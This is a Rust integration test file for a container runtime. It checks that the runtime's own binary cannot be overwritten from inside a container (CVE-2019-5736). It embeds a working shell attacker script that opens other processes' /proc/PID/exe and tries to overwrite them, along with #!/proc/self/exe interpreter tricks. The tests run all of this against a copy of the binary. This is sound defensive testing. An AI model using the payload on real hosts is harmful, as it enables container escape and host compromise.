//! The runtime's own program cannot be reached from a container (CVE-2019-5736). The attack is made on a copy.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use serde_json::json;
use skiff_integration_tests::bundle::Bundle;
use skiff_integration_tests::command::{Running, eventually};
use skiff_integration_tests::compare::each;
use skiff_integration_tests::rounds;
use skiff_integration_tests::runtime::{Container, Kind, Runtime};
use skiff_lanes::runs;

use super::NOT_OURS;
use crate::exec::{NO_EXEC, exec};

/// Takes every program file that another process of the pid namespace is running, and writes to it for ever.
const ATTACKER: &str = r#"
echo up
while :; do
    for process in /proc/[0-9]*; do
        [ $process/exe -ef /bin/busybox ] && continue
        (
            # A failed redirection of exec ends this subshell alone.
            exec 9<$process/exe
            echo grabbed $process
            tries=0
            while [ $tries -lt 100 ]; do
                (exec 8>/proc/self/fd/9 && echo overwritten >&8 && echo OVERWRITTEN)
                tries=$((tries + 1))
            done
        ) 2>/dev/null &
        wait
    done
done
"#;

/// Attempts on ours; the references only show that the attack itself works as a test.
const ROUNDS: usize = 30;

fn with_all_capabilities(bundle: Bundle) -> Bundle {
    let all = json!(["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_SYS_ADMIN", "CAP_KILL"]);
    bundle.edit(|config| {
        config["process"]["capabilities"] = json!({"bounding": all, "effective": all, "permitted": all});
    })
}

/// Detached: nobody can write to a program that is being executed, so that a `run` in the foreground would protect it.
fn attack(container: &Container<'_>) -> Running {
    let running = container.run_command(&["--detach"]).patience(std::time::Duration::from_secs(120)).spawn();
    eventually("the attacker is up", || running.stdout().contains("up").then_some(()));
    eventually("its pid is known", || (container.status() == "running").then_some(()));
    running
}

fn joined(attacker: &Container<'_>, args: &[&str]) -> Bundle {
    let path = format!("/proc/{}/ns/pid", attacker.pid());
    with_all_capabilities(Bundle::new()).args(args).namespace("pid", Some(&path))
}

fn is_unchanged(copy: &Path, original: &[u8]) {
    if fs::read(copy).unwrap() != original {
        // What there is of containers is still to be removed with it.
        fs::remove_file(copy).unwrap();
        fs::write(copy, original).unwrap();
        fs::set_permissions(copy, fs::Permissions::from_mode(0o755)).unwrap();
        panic!("{} was overwritten from a container", copy.display());
    }
}

fn attacked(runtime: &Runtime, args: &[&str], file: Option<(&str, &str)>) {
    let folder = tempfile::Builder::new().prefix("skt-copy-").tempdir().unwrap();
    let runtime = runtime.copied_to(folder.path());
    let original = fs::read(&runtime.binary).unwrap();
    let bundle = with_all_capabilities(Bundle::script(ATTACKER));
    let attacker = runtime.container(&bundle);
    let running = attack(&attacker);
    let rounds = if runtime.kind == Kind::Skiff { rounds(ROUNDS) } else { 5 };
    for _ in 0..rounds {
        let mut victim = joined(&attacker, args);
        if let Some((path, text)) = file {
            victim = victim.file(path, 0o755, text);
        }
        // It may fail in every way; what counts is the program on the host.
        let outcome = runtime.container(&victim).run(&[]);
        assert!(!outcome.hung, "{outcome}");
        is_unchanged(&runtime.binary, &original);
    }
    attacker.delete(&["--force"]).ok();
    let outcome = running.wait();
    println!("{}: a foreign program was opened {} times", runtime.kind, outcome.stdout.matches("grabbed").count());
    assert!(!outcome.stdout.contains("OVERWRITTEN"), "{outcome}");
    is_unchanged(&runtime.binary, &original);
}

/// The attacker's own container is entered.
#[runs(everywhere)]
fn cve_2019_5736_the_program_of_the_runtime_that_enters_a_hostile_container() {
    each(&[NO_EXEC], |runtime| {
        let folder = tempfile::Builder::new().prefix("skt-copy-").tempdir().unwrap();
        let runtime = runtime.copied_to(folder.path());
        let original = fs::read(&runtime.binary).unwrap();
        let script = "#!/proc/self/exe\n";
        let bundle = with_all_capabilities(Bundle::script(ATTACKER)).file("/data/script", 0o755, script);
        let attacker = runtime.container(&bundle);
        let running = attack(&attacker);
        let rounds = if runtime.kind == Kind::Skiff { rounds(ROUNDS) / 3 } else { 2 };
        for _ in 0..rounds {
            for program in ["/bin/true", "/proc/self/exe", "/data/script"] {
                // It may fail in every way; what counts is the program on the host.
                let outcome = exec(&attacker, &[], &[program]);
                assert!(!outcome.hung, "{outcome}");
                is_unchanged(&runtime.binary, &original);
            }
        }
        attacker.delete(&["--force"]).ok();
        let outcome = running.wait();
        assert!(!outcome.stdout.contains("OVERWRITTEN"), "{outcome}");
        is_unchanged(&runtime.binary, &original);
    });
}

#[test]
fn cve_2019_5736_the_program_of_the_runtime_joining_a_hostile_pid_namespace() {
    each(&NOT_OURS, |runtime| attacked(runtime, &["/bin/true"], None));
}

#[runs(everywhere)]
fn cve_2019_5736_the_runtime_as_the_containers_program() {
    each(&NOT_OURS, |runtime| attacked(runtime, &["/proc/self/exe", "--help"], None));
}

#[test]
fn cve_2019_5736_the_runtime_as_an_interpreter() {
    each(&NOT_OURS, |runtime| attacked(runtime, &["/data/script"], Some(("/data/script", "#!/proc/self/exe\n"))));
}
